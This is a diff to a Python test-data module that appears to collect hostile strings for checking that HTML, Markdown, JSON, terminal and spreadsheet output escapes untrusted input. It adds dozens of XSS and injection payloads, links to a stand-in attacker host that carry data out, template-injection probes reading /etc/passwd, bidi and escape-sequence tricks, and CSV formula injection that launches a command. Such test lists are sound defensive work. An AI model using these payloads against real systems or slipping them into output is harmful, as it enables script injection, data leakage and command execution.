@@ -1,4 +1,4 @@
-"""Two hundred strings that mean harm somewhere: to HTML, XML, Markdown, JSON, scripts, feeds, spreadsheets and eyes.
+"""Two hundred and fifty strings that mean harm somewhere: to HTML, XML, Markdown, JSON, scripts, feeds, spreadsheets and eyes.
 
 Whatever they ask for is at WORDS; a link to it in anything that was made from them is a hole. Addresses that only a
 field for addresses may hold are in ADDRESSES.
@@ -38,6 +38,16 @@ ELEMENTS = (
     f"</p></div></main><script>{_RUN}</script>", f"</title></style></textarea></script><svg/onload={_RUN}>",
     f"</script><script>{_RUN}</script>", f"<!--><img src=x onerror={_RUN}>-->", f"<![CDATA[<script>{_RUN}</script>]]>",
     f"]]><script>{_RUN}</script>", f"--><script>{_RUN}</script>", f"--!><img src=x onerror={_RUN}>", "<!--", "-->", "<![CDATA[", "]]>",
+    f"<div><template shadowrootmode=open><script>{_RUN}</script></template></div>", f"<fencedframe src=//{WORDS}></fencedframe>",
+    f"<frameset onload={_RUN}>", f"<frame src=//{WORDS}>", f"<applet code=//{WORDS}/x></applet>", f"<bgsound src=//{WORDS}>",
+    f"<image src=//{WORDS}/p.png onerror={_RUN}>", f"<track src=//{WORDS}/x.vtt>", f"<source srcset=//{WORDS}/p.png>",
+    f"<a href=https://{WORDS} ping=//{WORDS}>x</a>", f"<area href=//{WORDS} shape=default>", f"<q cite=//{WORDS}>x</q>",
+    f"<svg><foreignObject><iframe src=//{WORDS}></iframe></foreignObject></svg>", f"<svg><set attributeName=onmouseover to={_RUN}></svg>",
+    f"<svg><image href=//{WORDS}/p.svg></svg>", f"<svg><style>*{{background:url(//{WORDS})}}</style></svg>",
+    f"<math href=javascript:{_RUN}>x</math>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
+    f"<link rel=preload as=image href=//{WORDS}/p.png>", f"<link rel=dns-prefetch href=//{WORDS}>", f"<meta charset=utf-7><script>{_RUN}</script>",
+    f"<meta property=og:image content=//{WORDS}/p.png>", f"<script type=speculationrules>{{\"prefetch\":[\"//{WORDS}\"]}}</script>",
+    f"<script type=application/ld+json>{{\"url\":\"//{WORDS}\"}}</script>", f"<script type=importmap>{{\"imports\":{{\"a\":\"//{WORDS}\"}}}}</script>",
     "<?php echo 1 ?>", "<%= 7*7 %>", f"<portal src=//{WORDS}>", f"<x onclick={_RUN} tabindex=1>x</x>", "<br/><hr/><wbr>", "<b>bold</b>",
 )  # fmt: skip
 ATTRIBUTES = tuple(f"{mark} {name}={_RUN} x={mark}" for mark in _QUOTES[1:5] for name in _HANDLERS)
@@ -46,6 +56,7 @@ ENCODED = (
     "\\u003cscript\\u003e", "\\x3cscript\\x3e", "%3Cscript%3E", "\uff1cscript\uff1e", "+ADw-script+AD4-", "&NewLine;&Tab;javascript&colon;x",
     "&nonsense;", "&#0;", "&#xD800;", "&#1114112;", "&", "&&amp;", "<", ">", '"', "'", "\\", "\\'\\\"", "\u2028\u2029", "</", "<!", "<?",
     "${alert(1)}", "`${alert(1)}`", "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{{ config.__class__.__mro__ }}", "#{7*7}", "<%- x %>",
+    "&lt;![CDATA[", "\\074script\\076", "&amp;#x26;lt;script", "\u00bcscript\u00be", "<\u2028script>", "<scr\x00ipt>", "%253Cscript%253E",
     '","evil":"1', '"}]});alert(1);//', "');alert(1);//", '\\");alert(1);//', "__proto__", "constructor", "[object Object]", "null", "undefined",
 )  # fmt: skip
 MARKDOWN = (
@@ -53,12 +64,15 @@ MARKDOWN = (
     f"www.{WORDS}", f"[a]: https://{WORDS}", "[a][a]", f"[a]: <javascript:{_RUN}> 'x'", f"![a][b]\n\n[b]: https://{WORDS}/p?d=secret",
     "*a* _b_ **c** ~~d~~", "# head", "###### head", "1. one", "2) two", "- item", "+ item", "* item", "> quote", "```\ncode\n```", "~~~\ncode",
     "`code`", "a | b\n--|--\n1 | 2", "---", "===", "***", "[^1]: note[^1]", "\\[x]\\(y)", f"a@{WORDS}", f"<a@{WORDS}>", f"mailto:a@{WORDS}",
+    f"<https://{WORDS}/?q=`x`>", f"[x]( <//{WORDS}> )", f"[![x](//{WORDS}/p)](//{WORDS})", f"[x][a]\n\n  [A]:\n  //{WORDS}", f"*[HTML]: //{WORDS}",
+    f"ftp://{WORDS}/x", "<!-- note -->", "\\", "| a |\n|---|\n| b |", "Head\n====", "Term\n: meaning", "&lt;b&gt;*x*", "\ufeff# head",
     "$x^2$", "    code", "a  \nb", ":---", "- [ ] task", "{#id .class}", ":::note", "!!! warning", "[[wiki]]", ":smile:", "^sup^", "==mark==",
 )  # fmt: skip
 EYES = (
     "\u202egnp.exe\u202c", "\u2066\u2067\u2068\u2069", "\u200b\u200c\u200d\u2060\ufeff", "\U000e0041\U000e0042\U000e007f", "\x00\x01\x08\x0b",
     "\x1b[31mred\x1b[0m", "\x1b]8;;https://words.evil.example\x07x\x1b]8;;\x07", "\x7f\x80\x9f", "\ufffe\uffff", "a" + "\u0301" * 300,
     "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 20, "w" * 400, "\u0430\u0440\u0440le.example", "\r\n\r\nHTTP/1.1 200 OK", "a\tb\fc\x85d", " ",
+    "\u061c\u200e\u200f", "\ufe0f\ufe0e\U000e0100", "\u115f\u3164\uffa0", "\ufff9a\ufffab\ufffb", "\x9b31mred", "\x1bP1$r0m\x1b\\", "\u3000\u2800\u00a0",
 )  # fmt: skip
 CELLS = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "=HYPERLINK(\"https://words.evil.example\")", "../../etc/passwd", "CON", "a;b,c\"d")  # fmt: skip
 STRINGS = tuple(dict.fromkeys((*ELEMENTS, *ATTRIBUTES, *ENCODED, *MARKDOWN, *EYES, *CELLS)))
